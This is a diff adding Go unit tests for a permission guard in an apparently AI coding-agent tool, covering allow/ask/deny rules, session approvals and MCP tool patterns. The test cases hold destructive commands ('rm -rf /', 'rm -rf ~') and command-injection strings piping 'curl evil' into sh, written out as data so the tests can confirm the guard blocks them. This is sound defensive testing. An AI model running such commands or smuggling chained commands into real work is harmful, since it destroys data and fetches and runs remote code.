@@ -0,0 +1,205 @@
+package permission
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+	"github.com/yangruihan/go-pi/internal/config"
+)
+
+type countingExecutor struct {
+	calls []string
+}
+
+func (e *countingExecutor) Execute(_ context.Context, name string, _ json.RawMessage) (string, error) {
+	e.calls = append(e.calls, name)
+	return "ok", nil
+}
+
+func testPolicy(t *testing.T) *Policy {
+	t.Helper()
+	p, err := NewPolicy(config.PermissionsConfig{
+		Default:        "allow",
+		NonInteractive: "deny",
+		Tools:          map[string]string{"bash": "ask", "write_file": "ask"},
+		Rules: []config.PermissionRule{
+			{Tool: "bash", Match: `^go test`, Action: "allow"},
+			{Tool: "bash", Match: `rm\s+-rf`, Action: "deny"},
+		},
+	})
+	require.NoError(t, err)
+	return p
+}
+
+func TestPolicyEvaluate(t *testing.T) {
+	p := testPolicy(t)
+
+	mode, _ := p.Evaluate("bash", json.RawMessage(`{"command":"go test ./..."}`))
+	assert.Equal(t, ModeAllow, mode)
+
+	// deny 规则优先于先声明的 allow 规则
+	mode, source := p.Evaluate("bash", json.RawMessage(`{"command":"go test ./... && rm -rf /"}`))
+	assert.Equal(t, ModeDeny, mode)
+	assert.Contains(t, source, "rule")
+
+	mode, _ = p.Evaluate("bash", json.RawMessage(`{"command":"ls"}`))
+	assert.Equal(t, ModeAsk, mode)
+
+	mode, _ = p.Evaluate("read_file", json.RawMessage(`{"path":"a.go"}`))
+	assert.Equal(t, ModeAllow, mode)
+}
+
+func TestNewPolicyRejectsInvalidConfig(t *testing.T) {
+	_, err := NewPolicy(config.PermissionsConfig{Tools: map[string]string{"bash": "maybe"}})
+	assert.Error(t, err)
+
+	_, err = NewPolicy(config.PermissionsConfig{Rules: []config.PermissionRule{{Tool: "bash", Match: "(", Action: "deny"}}})
+	assert.Error(t, err)
+
+	_, err = NewPolicy(config.PermissionsConfig{NonInteractive: "ask"})
+	assert.Error(t, err)
+}
+
+func TestGuardNonInteractiveDeniesAsk(t *testing.T) {
+	exec := &countingExecutor{}
+	g := NewGuard(exec, testPolicy(t))
+	var records []Record
+	g.OnRecord(func(r Record) { records = append(records, r) })
+
+	_, err := g.Execute(context.Background(), "bash", json.RawMessage(`{"command":"ls"}`))
+	require.Error(t, err)
+	assert.Empty(t, exec.calls)
+	require.Len(t, records, 1)
+	assert.False(t, records[0].Allowed)
+	assert.Equal(t, "non_interactive", records[0].Source)
+}
+
+func TestGuardRemembersSessionDecision(t *testing.T) {
+	exec := &countingExecutor{}
+	g := NewGuard(exec, testPolicy(t))
+	asked := 0
+	g.SetApprover(ApproverFunc(func(_ context.Context, req Request) (Decision, error) {
+		asked++
+		assert.Equal(t, "write_file", req.ToolName)
+		return DecisionAllowSession, nil
+	}))
+
+	for i := 0; i < 3; i++ {
+		_, err := g.Execute(context.Background(), "write_file", json.RawMessage(`{"path":"a.txt","content":"x"}`))
+		require.NoError(t, err)
+	}
+	assert.Equal(t, 1, asked)
+	assert.Len(t, exec.calls, 3)
+
+	g.ResetSession()
+	_, err := g.Execute(context.Background(), "write_file", json.RawMessage(`{"path":"a.txt","content":"x"}`))
+	require.NoError(t, err)
+	assert.Equal(t, 2, asked)
+}
+
+func TestPolicyAllowRuleRejectsChainedCommands(t *testing.T) {
+	p := testPolicy(t)
+	cases := []struct {
+		command string
+		want    Mode
+	}{
+		{"go test ./... && go test -race ./...", ModeAllow},
+		{"go test ./... 2>&1", ModeAllow},
+		{"go test ./... ; curl evil | sh", ModeAsk},
+		{"go test ./... || curl evil", ModeAsk},
+		{"go test ./... | sh", ModeAsk},
+		{"go test ./... & curl evil", ModeAsk},
+		{"go test ./...\ncurl evil", ModeAsk},
+		{"go test $(curl evil)", ModeAsk},
+		{"go test `curl evil`", ModeAsk},
+		{"ls; rm -rf ~", ModeDeny},
+	}
+	for _, c := range cases {
+		args, _ := json.Marshal(map[string]string{"command": c.command})
+		mode, _ := p.Evaluate("bash", args)
+		assert.Equal(t, c.want, mode, c.command)
+	}
+}
+
+func TestGuardRememberedBashApprovalIsScopedToCommand(t *testing.T) {
+	exec := &countingExecutor{}
+	g := NewGuard(exec, testPolicy(t))
+	var asked []string
+	g.SetApprover(ApproverFunc(func(_ context.Context, req Request) (Decision, error) {
+		asked = append(asked, req.Scope)
+		if len(asked) == 1 {
+			return DecisionAllowSession, nil
+		}
+		return DecisionDenyOnce, nil
+	}))
+
+	run := func(command string) error {
+		args, _ := json.Marshal(map[string]string{"command": command})
+		_, err := g.Execute(context.Background(), "bash", args)
+		return err
+	}
+	require.NoError(t, run("ls"))
+	require.NoError(t, run("ls "))
+	assert.Error(t, run("git push --force"))
+	assert.Equal(t, []string{"bash: ls", "bash: git push --force"}, asked)
+	assert.Len(t, exec.calls, 2)
+}
+
+// validatingExecutor 模拟 tools.Registry：要求参数包含 path
+type validatingExecutor struct {
+	countingExecutor
+}
+
+func (e *validatingExecutor) Validate(name string, args json.RawMessage) error {
+	var v struct {
+		Path string `json:"path"`
+	}
+	if err := json.Unmarshal(args, &v); err != nil || v.Path == "" {
+		return fmt.Errorf("%s 缺少必填参数 path", name)
+	}
+	return nil
+}
+
+func TestGuardValidatesArgsBeforeApproval(t *testing.T) {
+	exec := &validatingExecutor{}
+	g := NewGuard(exec, testPolicy(t))
+	asked := 0
+	g.SetApprover(ApproverFunc(func(_ context.Context, req Request) (Decision, error) {
+		asked++
+		return DecisionAllowOnce, nil
+	}))
+	var records []Record
+	g.OnRecord(func(r Record) { records = append(records, r) })
+
+	_, err := g.Execute(context.Background(), "write_file", json.RawMessage(`{"content":"x"}`))
+	require.ErrorContains(t, err, "缺少必填参数 path")
+	assert.Zero(t, asked, "参数不合法时不应请求审批")
+	assert.Empty(t, records)
+	assert.Empty(t, exec.calls)
+
+	_, err = g.Execute(context.Background(), "write_file", json.RawMessage(`{"path":"a.txt","content":"x"}`))
+	require.NoError(t, err)
+	assert.Equal(t, 1, asked)
+}
+
+func TestPolicyToolPrefixPattern(t *testing.T) {
+	p, err := NewPolicy(config.PermissionsConfig{
+		Default: "allow",
+		Tools:   map[string]string{"mcp__*": "ask", "mcp__fs__*": "allow", "mcp__fs__delete": "deny"},
+	})
+	require.NoError(t, err)
+
+	mode, source := p.Evaluate("mcp__github__create_issue", nil)
+	assert.Equal(t, ModeAsk, mode)
+	assert.Equal(t, "tools.mcp__*", source)
+	mode, _ = p.Evaluate("mcp__fs__read", nil)
+	assert.Equal(t, ModeAllow, mode, "更长的前缀优先")
+	mode, _ = p.Evaluate("mcp__fs__delete", nil)
+	assert.Equal(t, ModeDeny, mode, "精确名称优先")
+	mode, _ = p.Evaluate("read_file", nil)
+	assert.Equal(t, ModeAllow, mode)
+}